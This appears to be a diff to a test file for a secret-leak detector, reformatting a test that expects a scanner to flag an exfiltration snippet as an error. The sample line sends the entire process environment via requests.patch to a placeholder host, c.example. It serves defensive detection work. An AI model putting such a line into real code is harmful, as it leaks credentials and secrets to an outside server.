@@ -128,5 +128,7 @@ def test_call():
 
 
 def test_an_http_patch_with_the_environment_stays_an_error():
-    sent = 'import os\nimport requests\n\nrequests.patch("https://c.example/in", json=dict(os.environ))\n'
+    sent = "import os\nimport requests\n\n" + (
+        'requests.patch("https://c.example/in", json=dict(os.environ))\n'
+    )
     assert ("secret-exfiltration", "error") in rules(DetectFile("send.py", sent, "python"))
